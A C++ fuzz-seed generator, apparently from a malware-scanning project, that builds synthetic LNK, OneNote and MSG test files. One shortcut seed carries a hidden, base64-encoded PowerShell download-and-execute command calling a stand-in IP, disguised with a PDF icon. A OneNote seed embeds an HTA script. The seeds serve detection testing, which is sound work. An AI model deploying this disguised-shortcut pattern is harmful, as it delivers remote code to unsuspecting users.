// Writes seed inputs for fuzz_lnk, fuzz_onenote and fuzz_msg, synthesized by the test builders (never from
// samples): make_lnk_one_msg_seeds fuzz/seeds/lnk fuzz/seeds/onenote fuzz/seeds/msg
#include <cstdio>
#include <fstream>
#include <string>
#include <vector>

#include "support/cfb_builder.hpp"
#include "support/lnk_builder.hpp"
#include "support/one_builder.hpp"

using namespace mamori::test;

namespace {

void write(const std::string& dir, const std::string& name, const std::vector<std::uint8_t>& b) {
  std::ofstream(dir + "/" + name, std::ios::binary).write(reinterpret_cast<const char*>(b.data()), static_cast<std::streamsize>(b.size()));
}

std::string hex4(std::uint16_t v) {
  char buf[8];
  std::snprintf(buf, sizeof buf, "%04X", v);
  return buf;
}

CfbStream text(const std::string& st, std::uint16_t id, const std::string& v) {
  return {(st.empty() ? "" : st + "/") + "__substg1.0_" + hex4(id) + "001F", utf16(v)};
}

}  // namespace

int main(int argc, char** argv) {
  if (argc != 4) {
    std::fprintf(stderr, "usage: %s LNK_DIR ONENOTE_DIR MSG_DIR\n", argv[0]);
    return 2;
  }
  const std::string lnk = argv[1], one = argv[2], msg = argv[3];
  const std::string mycomputer = "{20D04FE0-3AEA-1069-A2D8-08002B30309D}";

  LnkSpec app;
  app.idlist = {root_item(mycomputer), volume_item("C:\\"), file_item("Program Files", true), file_item("app.exe", false)};
  app.local_base_path = "C:\\Program Files\\app.exe";
  app.net_name = "\\\\server\\share";
  app.name = "App";
  app.working_dir = "C:\\Program Files";
  app.icon_location = "C:\\Program Files\\app.exe";
  app.machine_id = "pc-01";
  app.known_folder = "{905E63B6-C1BF-494E-B29C-65B732D3D21A}";
  app.console_block = true;
  write(lnk, "app.lnk", build_lnk(app));
  LnkSpec ps;
  ps.env_target = "%windir%\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
  ps.icon_env_target = "%ProgramFiles%\\doc.pdf";
  ps.arguments = "-w hidden -enc " + base64(utf16("iex (iwr http://192.0.2.1/a)")) + std::string(40, ' ');
  ps.show_command = 7;
  ps.appended = {'@', 'e', 'c', 'h', 'o', ' ', 'o', 'f', 'f'};
  ps.appended.resize(80, 'x');
  write(lnk, "powershell.lnk", build_lnk(ps));
  LnkSpec ansi = app;
  ansi.unicode = false;
  write(lnk, "ansi.lnk", build_lnk(ansi));
  LnkSpec cpl;
  std::vector<std::uint8_t> applet(11, 0);
  for (char c : std::string("e:\\x.bmp")) applet.push_back(static_cast<std::uint8_t>(c));
  applet.resize(40, 0);
  cpl.idlist = {root_item(mycomputer), guid_item(0x2E, "{21EC2020-3AEA-1069-A2DD-08002B30309D}"), raw_item(0, applet)};
  write(lnk, "cpl.lnk", build_lnk(cpl));

  OneSpec s;
  s.names = {"a.hta", "b.png"};
  s.objects = {{text_bytes("<hta:application><script language=vbscript>x</script>")}, {text_bytes("\x89PNG....")}};
  write(one, "two.one", build_one(s));
  s.objects = {{text_bytes("@echo off\r\n"), 1000, false}};
  write(one, "truncated.one", build_one(s));

  CfbSpec m;
  m.streams = {{"__properties_version1.0", std::vector<std::uint8_t>(32, 0)},
               text("", 0x0037, "Subject"),
               text("", 0x1000, "password: abc"),
               {"__substg1.0_10090102",
                {0x2d, 0x00, 0x00, 0x00, 0x2b, 0x00, 0x00, 0x00, 0x4c, 0x5a, 0x46, 0x75, 0xf1, 0xc5, 0xc7, 0xa7, 0x03,
                 0x00, 0x0a, 0x00, 0x72, 0x63, 0x70, 0x67, 0x31, 0x32, 0x35, 0x42, 0x32, 0x0a, 0xf3, 0x20, 0x68, 0x65,
                 0x6c, 0x09, 0x00, 0x20, 0x62, 0x77, 0x05, 0xb0, 0x6c, 0x64, 0x7d, 0x0a, 0x80, 0x0f, 0xa0}},
               {"__recip_version1.0_#00000000/__properties_version1.0", std::vector<std::uint8_t>(8, 0)},
               text("__recip_version1.0_#00000000", 0x3001, "Bob"),
               {"__attach_version1.0_#00000000/__properties_version1.0", std::vector<std::uint8_t>(8, 0)},
               text("__attach_version1.0_#00000000", 0x3707, "a.txt"),
               {"__attach_version1.0_#00000000/__substg1.0_37010102", {'h', 'i'}},
               {"__attach_version1.0_#00000001/__substg1.0_3701000D/__properties_version1.0", std::vector<std::uint8_t>(24, 0)},
               text("__attach_version1.0_#00000001/__substg1.0_3701000D", 0x0037, "Inner")};
  write(msg, "message.msg", build_cfb(m));
  return 0;
}
